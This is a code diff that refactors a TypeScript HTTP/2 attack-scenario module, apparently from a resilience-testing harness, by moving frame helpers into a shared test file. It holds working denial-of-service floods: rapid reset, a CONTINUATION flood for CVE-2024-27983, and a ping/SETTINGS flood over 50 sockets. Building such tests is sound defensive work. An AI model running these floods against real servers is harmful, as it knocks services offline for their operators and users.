@@ -1,4 +1,5 @@
 import { type ClientHttp2Session, connect, constants } from "node:http2";
+import { FRAME, field, frame, PREFACE, SETTINGS } from "../../test/helpers/http2-frames.ts";
 import type { Attack, AttackScenario } from "../scenario.ts";
 import { atRate, openSocket, untilEnd } from "./sockets.ts";
 
@@ -27,19 +28,6 @@ export const HTTP2: readonly AttackScenario[] = [
     attack: idleSessions,
   },
 ];
-
-const PREFACE = Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n");
-
-function frame(type: number, flags: number, stream: number, payload: Buffer = Buffer.alloc(0)): Buffer {
-  const head = Buffer.alloc(9);
-  head.writeUIntBE(payload.length, 0, 3);
-  head[3] = type;
-  head[4] = flags;
-  head.writeUInt32BE(stream, 5);
-  return Buffer.concat([head, payload]);
-}
-
-const SETTINGS = frame(4, 0, 0);
 
 async function rapidReset(attack: Attack): Promise<void> {
   const open = (): ClientHttp2Session => {
@@ -70,18 +58,12 @@ async function rapidReset(attack: Attack): Promise<void> {
 
 /** CVE-2024-27983 and its relatives. */
 async function continuation(attack: Attack): Promise<void> {
-  // A literal header field without indexing: name and value of 100 bytes.
-  const field = Buffer.concat([
-    Buffer.from([0, 100]),
-    Buffer.alloc(100, "a"),
-    Buffer.from([100]),
-    Buffer.alloc(100, "b"),
-  ]);
-  const more = frame(9, 0, 1, Buffer.concat(Array.from({ length: 40 }, () => field)));
+  const large = field("a".repeat(100), "b".repeat(100));
+  const more = frame(FRAME.continuation, 0, 1, Buffer.concat(Array.from({ length: 40 }, () => large)));
   const sockets = Array.from({ length: 50 }, () => {
     const socket = openSocket(attack, attack.rpcUrl);
     socket.on("close", () => attack.count("connection closed"));
-    socket.write(Buffer.concat([PREFACE, SETTINGS, frame(1, 0, 1, field)]));
+    socket.write(Buffer.concat([PREFACE, SETTINGS, frame(FRAME.headers, 0, 1, large)]));
     return socket;
   });
   await atRate(attack, 500, (i) => {
@@ -91,7 +73,7 @@ async function continuation(attack: Attack): Promise<void> {
 }
 
 async function pings(attack: Attack): Promise<void> {
-  const both = Buffer.concat([frame(6, 0, 0, Buffer.alloc(8)), SETTINGS]);
+  const both = Buffer.concat([frame(FRAME.ping, 0, 0, Buffer.alloc(8)), SETTINGS]);
   const many = Buffer.concat(Array.from({ length: 200 }, () => both));
   const sockets = Array.from({ length: 50 }, () => {
     const socket = openSocket(attack, attack.rpcUrl);
